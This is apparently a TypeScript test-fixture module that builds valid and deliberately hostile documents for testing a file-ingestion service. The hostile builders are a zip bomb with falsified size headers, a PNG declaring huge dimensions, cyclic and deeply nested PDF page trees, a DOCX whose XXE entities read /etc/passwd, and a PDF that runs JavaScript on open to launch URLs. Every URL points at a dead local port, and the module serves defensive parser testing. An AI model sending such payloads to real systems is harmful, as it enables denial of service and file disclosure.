// Generators for valid and hostile documents, built in memory from npm packages only (no system
// tools), deterministic for a given seed. Valid documents carry a known text so a test can check
// content; hostile ones reproduce what reviewers really receive: truncated attachments, lying
// extensions, password-protected files, zip bombs, absurd declared sizes, malformed PDF trees.
import { createCanvas } from '@napi-rs/canvas';
import { Document, Packer, Paragraph, TextRun } from 'docx';
import ExcelJS from 'exceljs';
import PDFDocument from 'pdfkit';
import yauzl from 'yauzl';
import zlib from 'node:zlib';
import { buildZip as buildZipParts } from './zip-builder';

// ---------------------------------------------------------------------------------------------
// Seeded randomness

/** mulberry32: a tiny seeded PRNG, so every "random" input is the same on every run. */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export function randomBytes(seed: number, length: number): Buffer {
  const next = seededRandom(seed);
  const out = Buffer.alloc(length);
  for (let i = 0; i < length; i++) out[i] = Math.floor(next() * 256);
  return out;
}

/** The first `length` bytes (a negative length cuts that many bytes off the end). */
export function truncate(data: Buffer, length: number): Buffer {
  return Buffer.from(data.subarray(0, length < 0 ? Math.max(0, data.length + length) : length));
}

/** A copy with `count` bytes replaced by seeded random values at seeded positions. */
export function flipBytes(data: Buffer, seed: number, count: number): Buffer {
  const next = seededRandom(seed);
  const out = Buffer.from(data);
  for (let i = 0; i < count; i++) {
    const at = Math.floor(next() * out.length);
    out[at] = (out[at] ^ (1 + Math.floor(next() * 255))) & 0xff;
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Valid documents with known text

async function pdfkitToBuffer(doc: PDFKit.PDFDocument): Promise<Buffer> {
  const parts: Buffer[] = [];
  doc.on('data', (chunk: Buffer) => parts.push(chunk));
  const done = new Promise<void>((resolve, reject) => {
    doc.on('end', () => resolve());
    doc.on('error', reject);
  });
  doc.end();
  await done;
  return Buffer.concat(parts);
}

/** A born-digital PDF, one paragraph per entry of `pages` (one page each). */
export async function makeTextPdf(
  pages: string[],
  options: { userPassword?: string; ownerPassword?: string } = {},
): Promise<Buffer> {
  const doc = new PDFDocument({
    autoFirstPage: false,
    compress: true,
    info: { Title: 'Folio test document', CreationDate: new Date(Date.UTC(2024, 0, 1)) },
    ...(options.userPassword !== undefined || options.ownerPassword !== undefined
      ? {
          userPassword: options.userPassword,
          ownerPassword: options.ownerPassword ?? 'owner-secret',
          pdfVersion: '1.7ext3' as const,
        }
      : {}),
  });
  for (const text of pages) {
    doc.addPage({ size: 'A4', margin: 72 });
    doc.font('Helvetica').fontSize(12).text(text, { width: 450 });
  }
  return pdfkitToBuffer(doc);
}

/** A PNG of black text on white, large enough to OCR reliably. */
export function makeTextPng(lines: string[], options: { width?: number } = {}): Buffer {
  const width = options.width ?? 1400;
  const lineHeight = 64;
  const canvas = createCanvas(width, 120 + lines.length * lineHeight);
  const ctx = canvas.getContext('2d');
  ctx.fillStyle = '#ffffff';
  ctx.fillRect(0, 0, canvas.width, canvas.height);
  ctx.fillStyle = '#000000';
  ctx.font = '40px "Liberation Sans", "DejaVu Sans", sans-serif';
  lines.forEach((line, i) => ctx.fillText(line, 60, 100 + i * lineHeight));
  return canvas.encodeSync('png');
}

/** An image-only PDF (a "scan"): each page is a PNG of the text and has no text layer. */
export async function makeScannedPdf(pages: string[][]): Promise<Buffer> {
  const doc = new PDFDocument({ autoFirstPage: false, compress: true });
  for (const lines of pages) {
    doc.addPage({ size: 'A4', margin: 0 });
    doc.image(makeTextPng(lines, { width: 1700 }), 0, 0, { width: 595 });
  }
  return pdfkitToBuffer(doc);
}

export async function makeDocx(paragraphs: string[]): Promise<Buffer> {
  const doc = new Document({
    creator: 'Folio tests',
    sections: [{ children: paragraphs.map((p) => new Paragraph({ children: [new TextRun(p)] })) }],
  });
  return Packer.toBuffer(doc);
}

export async function makeXlsx(sheets: Record<string, (string | number)[][]>): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  workbook.created = new Date(Date.UTC(2024, 0, 1));
  for (const [name, rows] of Object.entries(sheets)) {
    const sheet = workbook.addWorksheet(name);
    for (const row of rows) sheet.addRow(row);
  }
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

// ---------------------------------------------------------------------------------------------
// Zip packages (OOXML): a minimal writer that can also lie about sizes

export interface ZipEntry {
  name: string;
  /** Uncompressed content; deflated by the writer. */
  data?: Buffer;
  /** Already deflated content, with its true CRC and size (for bombs built without inflating). */
  deflated?: { bytes: Buffer; crc32: number; size: number };
  /** What the headers claim the uncompressed size is (defaults to the true size). */
  declaredSize?: number;
}

/** Writes the entries through the shared zip builder (tests/support/zip-builder.ts). */
export function buildZip(entries: ZipEntry[]): Buffer {
  return buildZipParts(
    entries.map((entry) => ({
      name: entry.name,
      content: entry.deflated ? undefined : (entry.data ?? Buffer.alloc(0)),
      deflated: entry.deflated && {
        data: entry.deflated.bytes,
        size: entry.deflated.size,
        crc: entry.deflated.crc32,
      },
      declaredSize: entry.declaredSize,
    })),
  );
}

/** Every entry of a (valid) zip, in order. */
export function readZip(data: Buffer): Promise<{ name: string; data: Buffer }[]> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(data, { lazyEntries: true }, (openError, zip) => {
      if (openError || !zip) return reject(openError ?? new Error('no zip'));
      const out: { name: string; data: Buffer }[] = [];
      zip.on('entry', (entry: yauzl.Entry) => {
        zip.openReadStream(entry, (streamError, stream) => {
          if (streamError || !stream) return reject(streamError ?? new Error('no stream'));
          const parts: Buffer[] = [];
          stream.on('data', (c: Buffer) => parts.push(c));
          stream.on('end', () => {
            out.push({ name: entry.fileName, data: Buffer.concat(parts) });
            zip.readEntry();
          });
          stream.on('error', reject);
        });
      });
      zip.on('end', () => resolve(out));
      zip.on('error', reject);
      zip.readEntry();
    });
  });
}

/** A copy of a zip package with some entries' contents replaced. */
export async function rewriteZip(
  data: Buffer,
  replace: (name: string, content: Buffer) => ZipEntry | Buffer,
): Promise<Buffer> {
  const entries = await readZip(data);
  return buildZip(
    entries.map(({ name, data: content }) => {
      const replaced = replace(name, content);
      return Buffer.isBuffer(replaced) ? { name, data: replaced } : replaced;
    }),
  );
}

/**
 * A raw-deflate stream that inflates to `prefix`, then `repeatMiB` MiB of spaces, then `suffix`,
 * built without ever holding the inflated data: once deflate's 32 KB window is full of spaces,
 * every further 1 MiB chunk compresses (with a sync flush) to the same bytes, so that unit is
 * repeated. The CRC-32 is computed chunk by chunk.
 */
export async function deflateBomb(
  prefix: Buffer,
  repeatMiB: number,
  suffix: Buffer,
): Promise<{ bytes: Buffer; crc32: number; size: number }> {
  const chunk = Buffer.alloc(1 << 20, 0x20);
  const deflate = zlib.createDeflateRaw({ level: 9 });
  const collect = (input: Buffer, flush: number): Promise<Buffer> =>
    new Promise((resolve) => {
      const parts: Buffer[] = [];
      const onData = (c: Buffer) => parts.push(c);
      deflate.on('data', onData);
      deflate.write(input);
      deflate.flush(flush, () => {
        deflate.off('data', onData);
        resolve(Buffer.concat(parts));
      });
    });
  const first = await collect(Buffer.concat([prefix, chunk]), zlib.constants.Z_SYNC_FLUSH);
  const unitA = await collect(chunk, zlib.constants.Z_SYNC_FLUSH);
  const unitB = await collect(chunk, zlib.constants.Z_SYNC_FLUSH);
  if (!unitA.equals(unitB)) throw new Error('deflate did not reach a steady state');
  const last = await new Promise<Buffer>((resolve) => {
    const parts: Buffer[] = [];
    deflate.on('data', (c: Buffer) => parts.push(c));
    deflate.on('end', () => resolve(Buffer.concat(parts)));
    deflate.end(suffix);
  });
  // The stream so far holds prefix + 3 chunks; reuse the steady unit for the remaining chunks.
  const chunks = Math.max(3, repeatMiB);
  const body = Buffer.concat([first, ...Array<Buffer>(chunks - 1).fill(unitA), last]);
  let crc = zlib.crc32(prefix);
  for (let i = 0; i < chunks; i++) crc = zlib.crc32(chunk, crc);
  crc = zlib.crc32(suffix, crc);
  return {
    bytes: body,
    crc32: crc >>> 0,
    size: prefix.length + chunks * chunk.length + suffix.length,
  };
}

/**
 * A DOCX (or XLSX) whose main part inflates to `inflatedMiB` MiB from a file of about 1/1000 of
 * that. With `lie`, the zip headers claim the part is 1 KB, so only a reader that counts the
 * bytes it actually inflates can stop it.
 */
export async function makeZipBomb(
  kind: 'docx' | 'xlsx',
  options: { inflatedMiB?: number; lie?: boolean } = {},
): Promise<Buffer> {
  const inflatedMiB = options.inflatedMiB ?? 2047;
  const base =
    kind === 'docx'
      ? await makeDocx(['This package hides a zip bomb.'])
      : await makeXlsx({ Sheet1: [['This package hides a zip bomb.']] });
  const target = kind === 'docx' ? 'word/document.xml' : 'xl/worksheets/sheet1.xml';
  const prefix =
    kind === 'docx'
      ? '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t xml:space="preserve">'
      : '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t xml:space="preserve">';
  const suffix =
    kind === 'docx'
      ? '</w:t></w:r></w:p></w:body></w:document>'
      : '</t></is></c></row></sheetData></worksheet>';
  const bomb = await deflateBomb(Buffer.from(prefix), inflatedMiB, Buffer.from(suffix));
  return rewriteZip(base, (name, content) =>
    name === target
      ? { name, deflated: bomb, ...(options.lie ? { declaredSize: 1024 } : {}) }
      : content,
  );
}

/** A workbook whose sheet declares the whole grid (A1:XFD1048576) but holds a few rows. */
export async function makeWholeGridXlsx(rows: string[][]): Promise<Buffer> {
  const base = await makeXlsx({ Sheet1: rows });
  return rewriteZip(base, (name, content) =>
    name === 'xl/worksheets/sheet1.xml'
      ? Buffer.from(
          content
            .toString('utf8')
            .replace(/<dimension ref="[^"]*"\s*\/>/, '<dimension ref="A1:XFD1048576"/>'),
        )
      : content,
  );
}

// ---------------------------------------------------------------------------------------------
// OLE / Compound File Binary containers

/**
 * A minimal, structurally valid CFB (v3, 512-byte sectors) with the given streams, each at least
 * 4096 bytes so they live in regular sectors (no mini stream needed).
 */
export function buildCfb(streams: { name: string; data: Buffer }[]): Buffer {
  const SECTOR = 512;
  const ENDOFCHAIN = 0xfffffffe;
  const FREESECT = 0xffffffff;
  const FATSECT = 0xfffffffd;
  const padded = streams.map((s) => {
    const data =
      s.data.length >= 4096 ? s.data : Buffer.concat([s.data, Buffer.alloc(4096 - s.data.length)]);
    const sectors = Math.ceil(data.length / SECTOR);
    return { ...s, data, sectors, size: s.data.length >= 4096 ? s.data.length : 4096 };
  });
  const dirEntries = 1 + padded.length;
  const dirSectors = Math.ceil((dirEntries * 128) / SECTOR);
  const dataSectors = padded.reduce((n, s) => n + s.sectors, 0);
  const fatSectors = 1; // enough for 128 sectors: plenty for test streams
  const total = fatSectors + dirSectors + dataSectors;
  if (total > 128) throw new Error('buildCfb: streams too large for one FAT sector');

  const fat = Buffer.alloc(SECTOR, 0xff);
  const setFat = (i: number, v: number) => fat.writeUInt32LE(v >>> 0, i * 4);
  setFat(0, FATSECT);
  let next = fatSectors;
  const dirStart = next;
  for (let i = 0; i < dirSectors; i++, next++)
    setFat(next, i === dirSectors - 1 ? ENDOFCHAIN : next + 1);
  const starts: number[] = [];
  for (const s of padded) {
    starts.push(next);
    for (let i = 0; i < s.sectors; i++, next++)
      setFat(next, i === s.sectors - 1 ? ENDOFCHAIN : next + 1);
  }

  const header = Buffer.alloc(SECTOR);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header, 0);
  header.writeUInt16LE(0x003e, 24); // minor version
  header.writeUInt16LE(0x0003, 26); // major version 3
  header.writeUInt16LE(0xfffe, 28); // little-endian
  header.writeUInt16LE(9, 30); // sector shift: 512
  header.writeUInt16LE(6, 32); // mini sector shift: 64
  header.writeUInt32LE(fatSectors, 44);
  header.writeUInt32LE(dirStart, 48);
  header.writeUInt32LE(4096, 56); // mini stream cutoff
  header.writeUInt32LE(ENDOFCHAIN, 60); // no mini FAT
  header.writeUInt32LE(0, 64);
  header.writeUInt32LE(ENDOFCHAIN, 68); // no DIFAT sectors
  header.writeUInt32LE(0, 72);
  for (let i = 0; i < 109; i++) header.writeUInt32LE(i === 0 ? 0 : FREESECT, 76 + i * 4);

  const dir = Buffer.alloc(dirSectors * SECTOR);
  const writeEntry = (
    index: number,
    name: string,
    type: number,
    child: number,
    right: number,
    start: number,
    size: number,
  ) => {
    const at = index * 128;
    const encoded = Buffer.from(name + '\0', 'utf16le');
    encoded.copy(dir, at);
    dir.writeUInt16LE(encoded.length, at + 64);
    dir.writeUInt8(type, at + 66);
    dir.writeUInt8(1, at + 67); // black
    dir.writeUInt32LE(FREESECT, at + 68); // left sibling
    dir.writeUInt32LE(right >>> 0, at + 72);
    dir.writeUInt32LE(child >>> 0, at + 76);
    dir.writeUInt32LE(start >>> 0, at + 116);
    dir.writeUInt32LE(size, at + 120);
  };
  writeEntry(0, 'Root Entry', 5, padded.length > 0 ? 1 : FREESECT, FREESECT, ENDOFCHAIN, 0);
  padded.forEach((s, i) =>
    writeEntry(
      1 + i,
      s.name,
      2,
      FREESECT,
      i + 1 < padded.length ? i + 2 : FREESECT,
      starts[i],
      s.size,
    ),
  );
  for (let i = dirEntries; i < (dirSectors * SECTOR) / 128; i++) {
    dir.writeUInt32LE(FREESECT, i * 128 + 68);
    dir.writeUInt32LE(FREESECT, i * 128 + 72);
    dir.writeUInt32LE(FREESECT, i * 128 + 76);
  }
  const body = padded.map((s) => {
    const out = Buffer.alloc(s.sectors * SECTOR);
    s.data.copy(out);
    return out;
  });
  return Buffer.concat([header, fat, dir, ...body]);
}

/** What Office writes for a password-protected .docx/.xlsx: an OLE container, not a zip. */
export function makeEncryptedOoxml(seed = 7): Buffer {
  const info = Buffer.alloc(4096);
  info.writeUInt16LE(4, 0); // agile encryption version 4.4
  info.writeUInt16LE(4, 2);
  info.writeUInt32LE(0x40, 4);
  Buffer.from(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>',
  ).copy(info, 8);
  return buildCfb([
    { name: 'EncryptionInfo', data: info },
    { name: 'EncryptedPackage', data: randomBytes(seed, 8192) },
  ]);
}

/** A legacy binary Office file (.doc-like OLE container) without encryption. */
export function makeLegacyOle(seed = 11): Buffer {
  return buildCfb([{ name: 'WordDocument', data: randomBytes(seed, 4096) }]);
}

// ---------------------------------------------------------------------------------------------
// Images

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(typed) >>> 0);
  return Buffer.concat([length, typed, crc]);
}

/** A tiny PNG file whose header declares `width` × `height` pixels (grayscale, 8 bit). */
export function makeHugeDimensionPng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.writeUInt8(8, 8); // bit depth
  ihdr.writeUInt8(0, 9); // grayscale
  // A few rows of real data: a decoder that trusts the header allocates the whole image first.
  const rows = Buffer.alloc(4 * (1 + Math.min(width, 4096)), 0xff);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', zlib.deflateSync(rows)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

// ---------------------------------------------------------------------------------------------
// Hand-written PDFs with malformed structure

/** Assembles numbered objects (1-based, in order) into a PDF with a correct xref table. */
export function buildPdf(objects: string[], rootObject = 1): Buffer {
  const parts: string[] = ['%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n'];
  const offsets: number[] = [];
  let length = Buffer.byteLength(parts[0], 'latin1');
  objects.forEach((body, i) => {
    offsets.push(length);
    const text = `${i + 1} 0 obj\n${body}\nendobj\n`;
    parts.push(text);
    length += Buffer.byteLength(text, 'latin1');
  });
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `),
    'trailer',
    `<< /Size ${objects.length + 1} /Root ${rootObject} 0 R >>`,
    'startxref',
    String(length),
    '%%EOF\n',
  ].join('\n');
  parts.push(xref);
  return Buffer.from(parts.join(''), 'latin1');
}

function textPageContent(text: string): string {
  const stream = `BT /F1 14 Tf 72 720 Td (${text.replace(/[()\\]/g, '\\$&')}) Tj ET`;
  return `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`;
}

const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** A PDF whose page tree loops: the root Pages node's kid is a Pages node whose kid is the root. */
export function makePdfPageTreeCycle(): Buffer {
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>',
  ]);
}

/** A PDF whose single page sits under `depth` nested Pages nodes. */
export function makePdfDeepNesting(depth: number, text: string): Buffer {
  // Objects: 1 catalog, 2..depth+1 Pages chain, then page, content, font.
  const objects: string[] = ['<< /Type /Catalog /Pages 2 0 R >>'];
  const pageObj = depth + 2;
  for (let level = 0; level < depth; level++) {
    const self = 2 + level;
    const kid = level === depth - 1 ? pageObj : self + 1;
    const parent = level === 0 ? '' : ` /Parent ${self - 1} 0 R`;
    objects.push(`<< /Type /Pages${parent} /Kids [${kid} 0 R] /Count 1 >>`);
  }
  objects.push(
    `<< /Type /Page /Parent ${depth + 1} 0 R /MediaBox [0 0 612 792] /Contents ${pageObj + 1} 0 R /Resources << /Font << /F1 ${pageObj + 2} 0 R >> >> >>`,
  );
  objects.push(textPageContent(text));
  objects.push(HELVETICA);
  return buildPdf(objects);
}

// ---------------------------------------------------------------------------------------------
// Active content that must never run or resolve

/**
 * A DOCX whose document.xml declares external entities (a local file and an http URL) and uses
 * them in the body: a parser that resolves them would leak /etc/passwd into the output or open a
 * network connection.
 */
export async function makeDocxWithExternalEntities(visibleText: string): Promise<Buffer> {
  const base = await makeDocx([visibleText]);
  return rewriteZip(base, (name, content) => {
    if (name !== 'word/document.xml') return content;
    const xml = content.toString('utf8');
    const doctype =
      '<!DOCTYPE w:document [<!ENTITY xxefile SYSTEM "file:///etc/passwd">' +
      '<!ENTITY xxehttp SYSTEM "http://127.0.0.1:9/folio-xxe">]>';
    const withDoctype = xml.replace(/^(<\?xml[^>]*\?>)/, `$1${doctype}`);
    const withUse = withDoctype.replace(
      `>${visibleText}<`,
      `>${visibleText} [&xxefile;] [&xxehttp;]<`,
    );
    return Buffer.from(withUse, 'utf8');
  });
}

/** A PDF with document JavaScript on open (launching a URL) and a link annotation to a URL. */
export function makePdfWithJavaScript(text: string): Buffer {
  const js =
    'app.launchURL("http://127.0.0.1:9/folio-js", true); this.submitForm("http://127.0.0.1:9/f");';
  return buildPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [7 0 R] >>',
    textPageContent(text),
    HELVETICA,
    `<< /S /JavaScript /JS (${js.replace(/[()\\]/g, '\\$&')}) >>`,
    '<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /URI /URI (http://127.0.0.1:9/folio-link) >> >>',
  ]);
}
